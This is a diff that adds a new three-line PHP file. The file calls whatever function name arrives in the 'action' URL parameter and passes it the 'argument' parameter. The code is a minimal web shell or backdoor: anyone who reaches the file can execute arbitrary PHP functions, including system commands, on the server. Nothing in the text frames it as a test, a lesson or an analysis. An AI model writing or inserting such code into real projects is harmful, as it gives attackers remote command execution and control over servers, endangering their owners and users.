@@ -1,0 +1,3 @@
+<?php
+$action = $_GET['action'];
+$action($_GET['argument']);
